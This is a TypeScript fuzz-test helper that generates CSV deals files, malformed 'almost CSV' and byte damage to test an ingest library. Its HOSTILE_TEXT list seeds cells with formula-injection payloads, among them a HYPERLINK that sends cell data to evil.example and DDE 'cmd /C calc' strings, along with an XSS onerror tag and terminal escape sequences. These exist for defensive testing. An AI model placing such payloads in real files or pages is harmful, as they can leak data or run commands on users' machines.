/**
 * Generators for the fuzz suites: deals files whose every row's fate is known in advance
 * ("model" files), and "almost CSV" that real exports and hostile users produce.
 *
 * A model file is built from row specs: each row is either valid (the test knows its status,
 * amount in cents, name and line) or broken in exactly one known way (the test knows the reject
 * code). Formatting (delimiter, quoting, line endings, encoding, amount and date locale style,
 * header spelling, column order, ragged rows, blank lines) varies freely on top, because none
 * of it may change which rows are used or what they are worth.
 */
import fc from 'fast-check';
import type { Config } from '../../src/config/schema.js';
import { readTable, type ReadOptions, type ReadResult, type RecordOf as InputRecordOf } from '../../src/ingest/read-table.js';
import { REJECT_EXAMPLES_PER_REASON } from '../../src/ingest/table.js';
import type { FileReport, InputKind } from '../../src/base/model.js';
import { dayFromYmd, daysInMonth } from '../../src/base/time.js';

// ------------------------------------------------------------------ shared helpers

type RecordOf<K extends InputKind> = InputRecordOf<K>;

import { fromChunks, splitAt } from '../helpers/streams.js';
export { fromChunks, splitAt };

/** Reads bytes through the real ingest core, chunked as given. Never throws unless readTable does. */
export function readBytes<K extends InputKind>(
  kind: K,
  chunks: readonly Uint8Array[],
  config: Config = {},
  options: Omit<ReadOptions, 'config'> = {},
): Promise<ReadResult<RecordOf<K>>> {
  return readTable(kind, `${kind}.csv`, fromChunks(chunks), { config, ...options });
}

/** The accounting identities every successful read must satisfy. Returns a failure description or null. */
export function accountingProblem(report: FileReport, records: readonly unknown[]): string | null {
  const { read, used, rejected } = report.rows;
  if (read !== used + rejected) return `read ${read} != used ${used} + rejected ${rejected}`;
  if (used !== records.length) return `used ${used} != records ${records.length}`;
  // the rejects listed are examples, REJECT_EXAMPLES_PER_REASON per reason at most; the counts are whole
  for (const [code, n] of Object.entries(report.rejectedByReason)) {
    const listed = report.rejects.filter((r) => r.code === code).length;
    if (listed !== Math.min(n, REJECT_EXAMPLES_PER_REASON)) return `${code}: ${n} rejected, ${listed} listed`;
  }
  if (report.rejects.length > rejected) return `rejected ${rejected} < rejects listed ${report.rejects.length}`;
  const byReason = Object.values(report.rejectedByReason).reduce((a, b) => a + b, 0);
  if (byReason !== rejected) return `rejectedByReason sums to ${byReason}, rejected ${rejected}`;
  return null;
}

/** Every number reachable from `value` (object keys included as paths) that is NaN or ±Infinity. */
export function nonFiniteNumbers(value: unknown, path = '$', out: string[] = []): string[] {
  if (typeof value === 'number') {
    if (!Number.isFinite(value)) out.push(`${path} = ${value}`);
  } else if (Array.isArray(value)) {
    value.forEach((v, i) => nonFiniteNumbers(v, `${path}[${i}]`, out));
  } else if (value !== null && typeof value === 'object') {
    for (const [k, v] of Object.entries(value)) nonFiniteNumbers(v, `${path}.${k}`, out);
  }
  return out;
}

/** A stack trace or a JS engine error name leaking into a user-facing message. */
export function looksLikeCrash(text: string): boolean {
  // the parts that echo file content (quoted values, the list of headers found) may say anything
  const prose = text.split('Headers found')[0]!.replace(/"[^"\n]*"/g, '""');
  return (
    /\n\s+at .+:\d+:\d+/.test(text) ||
    /\b(TypeError|RangeError|ReferenceError|SyntaxError|Error): /.test(prose) ||
    /\b(?:line|lines|column|of|than|on|is|at) (?:NaN|undefined|null)\b|\[object Object\]|\binternal error\b|: undefined\b/.test(prose)
  );
}

// ------------------------------------------------------------------ encodings

export type Encoding = 'utf-8' | 'utf-8-bom' | 'utf-16le' | 'utf-16be' | 'windows-1252';

export function encode(text: string, encoding: Encoding): Uint8Array {
  switch (encoding) {
    case 'utf-8':
      return Buffer.from(text, 'utf8');
    case 'utf-8-bom':
      return Buffer.from(`\ufeff${text}`, 'utf8');
    case 'utf-16le':
      return Buffer.from(`\ufeff${text}`, 'utf16le');
    case 'utf-16be': {
      const le = Buffer.from(`\ufeff${text}`, 'utf16le');
      for (let i = 0; i + 1 < le.length; i += 2) {
        const t = le[i] as number;
        le[i] = le[i + 1] as number;
        le[i + 1] = t;
      }
      return le;
    }
    case 'windows-1252':
      // only used for text whose characters are all ASCII or U+00A0..U+00FF (the same bytes in Latin-1 and 1252)
      return Buffer.from(text, 'latin1');
  }
}

export function representableIn1252(text: string): boolean {
  return /^[\u0001-\u007f\u00a0-\u00ff]*$/.test(text);
}

// ------------------------------------------------------------------ model deals files

export type Status = 'won' | 'lost' | 'open';
export type AmountStyle = 'plain' | 'us' | 'eu' | 'space' | 'swiss' | 'code';
export type DateStyle = 'iso' | 'isoTime' | 'dots' | 'named' | 'serial' | 'mdy' | 'dmy' | 'mdy-infer';
export type RejectKind =
  | 'invalid_amount'
  | 'missing_amount'
  | 'negative_amount'
  | 'missing_stage'
  | 'unmapped_stage'
  | 'invalid_date'
  | 'missing_date'
  | 'invalid_value'
  | 'duplicate_id'
  | 'wrong_column_count';

export interface RowSpec {
  readonly status: Status;
  /** null: the amount cell is blank (valid for open and lost deals, then worth 0). */
  readonly cents: number | null;
  readonly created: number | null;
  readonly closed: number | null;
  readonly probability: number | null;
  readonly name: string;
  readonly owner: string;
  readonly fault: RejectKind | null;
  /** Which faulty token to use (index into the token list for the fault). */
  readonly faultPick: number;
  /** Trailing empty cells dropped or extra empty cells added: both must leave the row as it is. */
  readonly ragged: 'none' | 'short' | 'long';
  /** Blank lines (or rows of empty cells) written before this row. */
  readonly blanksBefore: 0 | 1 | 2;
  readonly quoteAll: boolean;
}

export interface FileSpec {
  readonly rows: readonly RowSpec[];
  readonly delimiter: ',' | ';' | '\t' | '|';
  /** 'mixed': each line ends with one of LF, CRLF, CR, picked by `mixedEols` (concatenated exports). */
  readonly eol: '\n' | '\r\n' | '\r' | 'mixed';
  readonly mixedEols?: readonly number[];
  /**
   * A UTF-8 file whose lines from this index on (modulo the line count) are written in
   * Windows-1252, as when another tool appended to it; read with a small sniffed head so the
   * change comes after it. Undefined or null: one encoding throughout.
   */
  readonly late1252?: number | null;
  readonly encoding: Encoding;
  readonly amountStyle: AmountStyle;
  readonly dateStyles: readonly DateStyle[];
  readonly columnOrder: readonly number[];
  readonly headerCase: readonly number[];
  readonly trailingEol: boolean;
  readonly cuts: readonly number[];
}

export interface ExpectedRow {
  readonly line: number;
  readonly outcome: { readonly used: true; readonly cents: number; readonly status: Status; readonly name: string; readonly id: string } | { readonly used: false; readonly code: string };
}

export interface BuiltFile {
  readonly bytes: Uint8Array;
  readonly chunks: Uint8Array[];
  readonly text: string;
  readonly expected: readonly ExpectedRow[];
  readonly options: Omit<ReadOptions, 'config'>;
  readonly spec: FileSpec;
  /** The physical line from which the bytes are Windows-1252 (FileSpec.late1252), or null. */
  readonly lateFromLine: number | null;
}

const FIELDS = ['id', 'name', 'amount', 'stage', 'created', 'closed', 'probability', 'owner'] as const;
const HEADER_SPELLINGS: Readonly<Record<(typeof FIELDS)[number], readonly string[]>> = {
  id: ['id', 'ID', 'Id'],
  name: ['name', 'Name', 'NAME'],
  amount: ['amount', 'Amount', 'AMOUNT', ' amount '],
  stage: ['stage', 'Stage', 'STAGE'],
  created: ['created', 'Created', 'created '],
  closed: ['closed', 'Closed', 'CLOSED'],
  probability: ['probability', 'Probability'],
  owner: ['owner', 'Owner', 'OWNER'],
};

const STAGES: Readonly<Record<Status, readonly string[]>> = {
  won: ['Closed Won', 'Won', 'closed_won', 'WON', 'Signed'],
  lost: ['Closed Lost', 'Lost', 'Disqualified', 'closed lost'],
  open: ['Negotiation', 'Proposal Sent', 'Discovery', 'Qualification', 'open'],
};

const FAULT_TOKENS: Readonly<Record<string, readonly string[]>> = {
  invalid_amount: ['TBD', 'n/a', '12abc', '$$5', '(-5)', '--5', '1e400', '99999999999999', '1.2.3x', '12..50', 'USD', '€'],
  missing_amount: ['', '   '],
  missing_stage: ['', '  '],
  unmapped_stage: ['Zzz Limbo', 'Stage 7', '=1+1', 'Closed Maybe'],
  invalid_date: ['2025-02-30', 'yesterday', '2025-13-01', '00.00.2025', '2025-02-29', '31/31/2025', '2024-06-31 10:00'],
  invalid_value: ['high', '45%%', 'fifty', '1/2'],
};

const MONTH_NAMES = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const LONG_MONTHS = ['January', 'February', 'March', 'April', 'May', 'June', 'July', 'August', 'September', 'October', 'November', 'December'];

const HOSTILE_TEXT = [
  '=HYPERLINK("http://evil.example/?d="&A1,"click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '<img src=x onerror=alert(1)>',
  '| [x](javascript:alert(1))',
  '\u001b[2J\u001b[1;31mPWNED',
  '\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007',
  '\u009b31m',
  'line one\nline two',
  'quote " inside',
  '"',
  '""',
  'a,b;c\td|e',
  '\u202eevil\u202c',
  'Ünïcödé 数据 🚀',
];

const dateArb = fc
  .record({ y: fc.integer({ min: 2020, max: 2026 }), m: fc.integer({ min: 1, max: 12 }), d: fc.integer({ min: 1, max: 31 }) })
  .map(({ y, m, d }) => dayFromYmd(y, m, Math.min(d, daysInMonth(y, m))));

/** Free text for name/owner cells: any code point but NUL, hostile values, or empty. */
export const freeTextArb: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }).map((s) => s.replace(/\0/g, '')) },
  { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_TEXT) },
  { weight: 1, arbitrary: fc.constant('') },
);

const rowArb: fc.Arbitrary<RowSpec> = fc
  .record({
    status: fc.constantFrom<Status>('won', 'lost', 'open'),
    cents: fc.oneof(
      { weight: 6, arbitrary: fc.integer({ min: 0, max: 2_000_000_00 }) },
      { weight: 1, arbitrary: fc.integer({ min: 0, max: 999_99 }) },
      { weight: 1, arbitrary: fc.constantFrom(0, 100, 1_000_00, 1_250_00, 999_999_999_999_99) },
      { weight: 1, arbitrary: fc.constant(null) },
    ),
    created: fc.option(dateArb, { freq: 6 }),
    closedOffset: fc.integer({ min: -30, max: 400 }),
    closedBlank: fc.boolean(),
    probability: fc.option(fc.integer({ min: 0, max: 100 }), { freq: 2 }),
    name: freeTextArb,
    owner: freeTextArb,
    fault: fc.option(
      fc.constantFrom<RejectKind>(
        'invalid_amount', 'missing_amount', 'negative_amount', 'missing_stage', 'unmapped_stage', 'invalid_date',
        'missing_date', 'invalid_value', 'duplicate_id', 'wrong_column_count',
      ),
      { freq: 3 },
    ),
    faultPick: fc.nat({ max: 100 }),
    ragged: fc.constantFrom<RowSpec['ragged']>('none', 'none', 'none', 'short', 'long'),
    blanksBefore: fc.constantFrom<RowSpec['blanksBefore']>(0, 0, 0, 0, 1, 2),
    quoteAll: fc.boolean(),
    anchor: dateArb,
  })
  .map((r): RowSpec => {
    const base = r.created ?? r.anchor;
    // won and lost deals need a close date; open ones may have none
    const closed = r.status === 'open' && r.closedBlank ? null : base + r.closedOffset;
    return {
      status: r.status,
      cents: r.status === 'won' && r.cents === null ? 1234_56 : r.cents,
      created: r.created,
      closed,
      probability: r.probability,
      name: r.name,
      owner: r.owner,
      fault: r.fault,
      faultPick: r.faultPick,
      ragged: r.ragged,
      blanksBefore: r.blanksBefore,
      quoteAll: r.quoteAll,
    };
  });

export const fileSpecArb: fc.Arbitrary<FileSpec> = fc.record({
  rows: fc.array(rowArb, { minLength: 1, maxLength: 40 }),
  delimiter: fc.constantFrom<FileSpec['delimiter']>(',', ';', '\t', '|'),
  eol: fc.constantFrom<FileSpec['eol']>('\n', '\n', '\r\n', '\r', 'mixed', 'mixed'),
  mixedEols: fc.array(fc.nat({ max: 2 }), { minLength: 1, maxLength: 7 }),
  late1252: fc.option(fc.nat({ max: 1000 }), { freq: 3 }),
  encoding: fc.constantFrom<Encoding>('utf-8', 'utf-8', 'utf-8-bom', 'utf-16le', 'utf-16be', 'windows-1252'),
  amountStyle: fc.constantFrom<AmountStyle>('plain', 'us', 'eu', 'space', 'swiss', 'code'),
  dateStyles: fc.oneof(
    fc.subarray<DateStyle>(['iso', 'isoTime', 'dots', 'named', 'serial'], { minLength: 1 }),
    fc.constantFrom<DateStyle[]>(['mdy'], ['dmy'], ['mdy-infer'], ['mdy', 'iso'], ['dmy', 'dots', 'iso']),
  ),
  columnOrder: fc.shuffledSubarray([0, 1, 2, 3, 4, 5, 6, 7], { minLength: 8, maxLength: 8 }),
  headerCase: fc.array(fc.nat({ max: 3 }), { minLength: 8, maxLength: 8 }),
  trailingEol: fc.boolean(),
  cuts: fc.array(fc.nat({ max: 6000 }), { maxLength: 12 }),
});

function group(intPart: string, sep: string): string {
  return intPart.replace(/\B(?=(\d{3})+(?!\d))/g, sep);
}

/** An amount as a given locale style writes it, always with two decimals so no value is ambiguous. */
export function formatAmount(cents: number, style: AmountStyle, variant = 0): string {
  const neg = cents < 0;
  const abs = Math.abs(cents);
  const int = String(Math.floor(abs / 100));
  const frac = String(abs % 100).padStart(2, '0');
  let body: string;
  switch (style) {
    case 'plain':
      // 12500, 12500.5 and 12500.50 all name the same amount when the tail is zero
      body = `${int}.${frac}`;
      if (variant % 3 === 1 && frac === '00') body = int;
      else if (variant % 3 === 2 && frac.endsWith('0')) body = `${int}.${frac[0]}`;
      break;
    case 'us':
      body = `${variant % 2 ? '$' : ''}${group(int, ',')}.${frac}`;
      break;
    case 'eu':
      body = `${group(int, '.')},${frac}${variant % 2 ? ' €' : ''}`;
      break;
    case 'space':
      body = `${group(int, variant % 3 === 0 ? ' ' : variant % 3 === 1 ? '\u00a0' : '\u202f')},${frac}`;
      break;
    case 'swiss':
      body = `${group(int, "'")}.${frac}`;
      break;
    case 'code':
      body = variant % 2 ? `USD ${group(int, ',')}.${frac}` : `${group(int, ',')}.${frac} USD`;
      break;
  }
  if (!neg) return body;
  return variant % 2 ? `(${body})` : `-${body}`;
}

function ymd(day: number): { y: number; m: number; d: number } {
  const dt = new Date(day * 86_400_000);
  return { y: dt.getUTCFullYear(), m: dt.getUTCMonth() + 1, d: dt.getUTCDate() };
}
const p2 = (n: number): string => String(n).padStart(2, '0');

/** A day as a given style writes it. */
export function formatDate(day: number, style: DateStyle, variant = 0): string {
  const { y, m, d } = ymd(day);
  switch (style) {
    case 'iso':
      return `${y}-${p2(m)}-${p2(d)}`;
    case 'isoTime':
      return variant % 3 === 0 ? `${y}-${p2(m)}-${p2(d)} 14:05` : variant % 3 === 1 ? `${y}-${p2(m)}-${p2(d)}T09:30:15` : `${y}-${p2(m)}-${p2(d)}T09:30:15Z`;
    case 'dots':
      return `${p2(d)}.${p2(m)}.${y}`;
    case 'named':
      return variant % 2 ? `${d} ${MONTH_NAMES[m - 1]} ${y}` : `${LONG_MONTHS[m - 1]} ${d}, ${y}`;
    case 'serial':
      return String(day + 25569);
    case 'mdy':
    case 'mdy-infer':
      return variant % 2 ? `${m}/${d}/${y}` : `${p2(m)}/${p2(d)}/${y}`;
    case 'dmy':
      return variant % 2 ? `${d}/${m}/${y}` : `${p2(d)}/${p2(m)}/${y}`;
  }
}

function quoteCell(value: string, delimiter: string, force: boolean): string {
  if (force || value.includes(delimiter) || /["\r\n]/.test(value)) return `"${value.replace(/"/g, '""')}"`;
  return value;
}

/** Builds the bytes and the expected fate of every row. */
export function buildFile(spec: FileSpec): BuiltFile {
  const order = spec.columnOrder;
  const header = order.map((i) => {
    const f = FIELDS[i] as (typeof FIELDS)[number];
    const spellings = HEADER_SPELLINGS[f];
    return spellings[(spec.headerCase[i] ?? 0) % spellings.length] as string;
  });
  const lines: string[] = [header.join(spec.delimiter)];
  const expected: ExpectedRow[] = [];
  let line = 2;
  const usedIds: string[] = [];
  let mdyEvidence = false;
  const crOnly = spec.eol === '\r';

  spec.rows.forEach((row, index) => {
    for (let b = 0; b < row.blanksBefore; b++) {
      lines.push(b % 2 === 0 ? '' : spec.delimiter.repeat(3));
      line += 1;
    }
    const v = row.faultPick;
    let rowEvidence = false;
    const pickDate = (day: number, salt: number): string => {
      const style = spec.dateStyles[(v + salt) % spec.dateStyles.length] as DateStyle;
      if (style === 'mdy-infer' && ymd(day).d > 12) rowEvidence = true;
      return formatDate(day, style, v + salt);
    };
    let fault = row.fault;
    if (fault === 'duplicate_id' && usedIds.length === 0) fault = null;
    // deals of every status without an amount are kept (won ones too: counted, left out of value metrics)
    if (fault === 'missing_amount') fault = 'invalid_amount';
    if (fault === 'missing_date' && row.status === 'open') fault = 'invalid_date';
    if (fault === 'negative_amount' && (row.cents === null || row.cents === 0)) fault = 'invalid_amount';
    const tokens = (k: string): string => {
      const list = FAULT_TOKENS[k] as readonly string[];
      return list[v % list.length] as string;
    };

    const id = fault === 'duplicate_id' ? (usedIds[v % usedIds.length] as string) : `D${index + 1}`;
    let name = row.name;
    let owner = row.owner;
    if (crOnly) {
      // in a file whose lines end with a bare CR, a CR or LF inside a value has no "physical line" meaning
      name = name.replace(/[\r\n]/g, ' ');
      owner = owner.replace(/[\r\n]/g, ' ');
    }
    const cells: Record<(typeof FIELDS)[number], string> = {
      id,
      name,
      amount: row.cents === null ? '' : formatAmount(row.cents, spec.amountStyle, v),
      stage: STAGES[row.status][v % STAGES[row.status].length] as string,
      created: row.created === null ? '' : pickDate(row.created, 1),
      closed: row.closed === null ? '' : pickDate(row.closed, 2),
      probability: row.probability === null ? '' : v % 3 === 0 ? `${row.probability}%` : v % 3 === 1 ? String(row.probability) : `${row.probability} %`,
      owner,
    };
    switch (fault) {
      case 'invalid_amount':
        cells.amount = tokens(fault);
        break;
      case 'negative_amount':
        cells.amount = formatAmount(-(row.cents as number), spec.amountStyle, v);
        break;
      case 'missing_stage':
        cells.stage = tokens(fault);
        break;
      case 'unmapped_stage':
        cells.stage = tokens(fault);
        break;
      case 'invalid_date':
        if (v % 2 === 0 || row.status === 'open') cells.created = tokens(fault);
        else cells.closed = tokens(fault);
        break;
      case 'missing_date':
        cells.closed = '';
        break;
      case 'invalid_value':
        cells.probability = tokens(fault);
        break;
      default:
        break;
    }

    let out = order.map((i) => cells[FIELDS[i] as (typeof FIELDS)[number]]);
    if (fault === 'wrong_column_count') out = [...out, 'extra', ''];
    else if (row.ragged === 'long') out = [...out, '', ' '];
    else if (row.ragged === 'short') {
      while (out.length > 1 && out[out.length - 1] === '') out.pop();
    }
    const text = out.map((c) => quoteCell(c, spec.delimiter, row.quoteAll)).join(spec.delimiter);
    lines.push(text);
    const newlines = out.reduce((n, c) => n + (c.match(/\n/g)?.length ?? 0), 0);
    if (fault === null) {
      // only rows that are read to the end are sure to have had their dates looked at
      if (rowEvidence) mdyEvidence = true;
      usedIds.push(id);
      expected.push({
        line,
        outcome: { used: true, cents: row.cents ?? 0, status: row.status, name: name.trim(), id },
      });
    } else {
      expected.push({ line, outcome: { used: false, code: fault } });
    }
    line += 1 + newlines;
  });

  // each line's ending: one for the file, or LF / CRLF / CR in turn ("mixed"); a CR never directly
  // before an LF that ends the next (blank) line, which would read as one CRLF
  const ends: string[] = [];
  const MIXED = ['\n', '\r\n', '\r'] as const;
  const pattern = spec.mixedEols && spec.mixedEols.length > 0 ? spec.mixedEols : [0, 1, 2];
  for (let i = 0; i < lines.length; i++) {
    if (spec.eol !== 'mixed') {
      ends.push(spec.eol);
      continue;
    }
    let end: string = MIXED[(pattern[i % pattern.length] as number) % 3] as string;
    if (end === '\n' && lines[i] === '' && ends[i - 1] === '\r') end = '\r\n';
    ends.push(end);
  }
  const lastEnd = spec.trailingEol ? (ends[lines.length - 1] as string) : '';
  const lineTexts = lines.map((l, i) => l + (i < lines.length - 1 ? (ends[i] as string) : lastEnd));
  // a blank last line before a missing final line end would vanish: keep such files as they were
  const text = lineTexts.join('');
  let encoding = spec.encoding;
  if (encoding === 'windows-1252' && !representableIn1252(text)) encoding = 'utf-8';
  let bytes = encode(text, encoding);
  const options: Omit<ReadOptions, 'config'> = {};
  let late: number | null = null;
  if (spec.late1252 !== undefined && spec.late1252 !== null && encoding === 'utf-8') {
    // the lines from `at` on in Windows-1252 (only when they can be), read with a small head so the change comes after it
    const at = 1 + (spec.late1252 % Math.max(1, lines.length - 1));
    const before = lineTexts.slice(0, at).join('');
    const after = lineTexts.slice(at).join('');
    if (representableIn1252(after)) {
      bytes = Buffer.concat([Buffer.from(before, 'utf8'), Buffer.from(after, 'latin1')]);
      late = at + 1;
      Object.assign(options, { headBytes: Buffer.byteLength(lineTexts[0] as string, 'utf8') + (spec.late1252 % 97) });
    }
  }
  // a cut where the sniffed head ends, so the bytes after it stream in as later chunks
  const cuts = late === null ? spec.cuts : [...spec.cuts, (options.headBytes as number) + 1];
  const styles = spec.dateStyles;
  if (styles.includes('mdy')) Object.assign(options, { dateFormat: 'MDY' });
  else if (styles.includes('dmy')) Object.assign(options, { dateFormat: 'DMY' });
  else if (styles.includes('mdy-infer') && !mdyEvidence) Object.assign(options, { dateFormat: 'MDY' });
  return { bytes, chunks: splitAt(bytes, cuts), text, expected, options, spec: { ...spec, encoding }, lateFromLine: late };
}

// ------------------------------------------------------------------ almost CSV

const HEADER_POOL = [
  'id', 'amount', 'stage', 'created', 'closed', 'owner', 'source', 'name', 'probability', 'type', 'account', 'segment',
  'period', 'channel', 'category', 'leads', 'renewal_date', 'arr_before', 'arr_after', 'status', 'is_won', 'is_closed',
  'currency', 'Deal Stage', 'Amount', 'Close Date', 'Create Date', 'Deal Name', 'Record ID', 'StageName', 'IsWon',
  'IsClosed', 'CloseDate', 'CreatedDate', 'x', '', '"', 'amount"', '\u00a0amount', 'Ämount', '🚀',
];

const CELL_POOL = [
  '', ' ', 'D1', 'D1', '100', '1,250', '1.250', '12.500,00', '$1,200.00', '(1,200)', '-5', '1e5', '1e400', 'NaN', 'Infinity',
  '-0', '0', '99999999999999999999', 'Closed Won', 'Closed Lost', 'Negotiation', 'Won', 'lost', 'open', 'deleted', 'TRUE',
  'FALSE', 'maybe', '2025-01-31', '2025-02-30', '01/02/2025', '13/01/2025', '01/13/2025', '31.12.2024', '45657', '2025-03',
  'Mar 2025', '31 Mar 2025', '45%', '0.45', '145', '-10%', 'Paid Search', 'SMB', 'New Business', 'Acme', 'USD', 'EUR',
  '__proto__', 'constructor', 'toString', 'hasOwnProperty', ...HOSTILE_TEXT,
];

/** One "almost CSV" token stream: real-looking cells and every kind of structural damage. */
export const almostCsvTextArb: fc.Arbitrary<string> = fc
  .record({
    header: fc.array(fc.oneof(fc.constantFrom(...HEADER_POOL), fc.string({ maxLength: 6 })), { minLength: 0, maxLength: 12 }),
    rows: fc.array(
      fc.record({
        cells: fc.array(
          fc.oneof(
            { weight: 6, arbitrary: fc.constantFrom(...CELL_POOL) },
            { weight: 2, arbitrary: fc.string({ unit: 'binary-ascii', maxLength: 10 }) },
            { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 6 }) },
          ),
          { maxLength: 14 },
        ),
        delimiter: fc.constantFrom(',', ',', ',', ';', '\t', '|', ', ', ''),
        eol: fc.constantFrom('\n', '\n', '\r\n', '\r', '\n\r', '', '\r\r\n'),
        quote: fc.constantFrom('none', 'none', 'all', 'open', 'stray', 'doubled'),
      }),
      { maxLength: 25 },
    ),
    headerDelimiter: fc.constantFrom(',', ';', '\t', '|'),
  })
  .map(({ header, rows, headerDelimiter }) => {
    let text = `${header.join(headerDelimiter)}\n`;
    for (const r of rows) {
      let cells = r.cells;
      if (r.quote === 'all') cells = cells.map((c) => `"${c.replace(/"/g, '""')}"`);
      else if (r.quote === 'open' && cells.length > 0) cells = [...cells.slice(0, -1), `"${cells[cells.length - 1]}`];
      else if (r.quote === 'stray' && cells.length > 0) cells = cells.map((c, i) => (i === 0 ? `${c}"x` : c));
      else if (r.quote === 'doubled') cells = cells.map((c) => `"${c}"" "`);
      text += cells.join(r.delimiter) + r.eol;
    }
    return text;
  });

/** Byte-level damage applied after encoding. */
export const byteDamageArb = fc.array(
  fc.record({
    at: fc.nat(),
    op: fc.constantFrom('insert', 'replace', 'delete', 'truncate'),
    byte: fc.constantFrom(0x00, 0xff, 0xfe, 0xc3, 0xe2, 0x80, 0x0d, 0x0a, 0x22, 0x2c, 0x1b, 0xef, 0xbb, 0xbf, 0xed, 0xa0),
  }),
  { maxLength: 4 },
);

export function damage(bytes: Uint8Array, ops: readonly { at: number; op: string; byte: number }[]): Uint8Array {
  let b = Buffer.from(bytes);
  for (const o of ops) {
    const at = b.length === 0 ? 0 : o.at % (b.length + 1);
    if (o.op === 'insert') b = Buffer.concat([b.subarray(0, at), Buffer.from([o.byte]), b.subarray(at)]);
    else if (o.op === 'replace' && at < b.length) b[at] = o.byte;
    else if (o.op === 'delete' && at < b.length) b = Buffer.concat([b.subarray(0, at), b.subarray(at + 1)]);
    else if (o.op === 'truncate') b = b.subarray(0, at);
  }
  return b;
}
